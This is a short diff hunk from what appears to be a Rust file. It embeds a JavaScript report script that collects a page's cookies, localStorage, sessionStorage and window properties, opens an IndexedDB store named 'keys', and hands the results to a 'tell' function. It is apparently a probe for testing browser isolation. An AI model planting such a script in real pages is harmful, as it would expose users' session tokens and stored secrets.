@@ -146,7 +146,7 @@ const REPORT: &str = r#"
   };
   const all = (area) => { try { return { ...window[area] }; } catch { return 'denied'; } };
   const cookie = () => { try { return document.cookie; } catch { return 'denied'; } };
-  tell(who, { origin: location.origin, local: all('localStorage'), session: all('sessionStorage'), cookie: cookie(),
+  tell(who, { origin: self.origin, local: all('localStorage'), session: all('sessionStorage'), cookie: cookie(),
     symbols: Object.getOwnPropertySymbols(window).map(String), names: Object.getOwnPropertyNames(window).filter((n) => /stamp/i.test(n)) });
   try {
     const request = indexedDB.open('keys', 1);
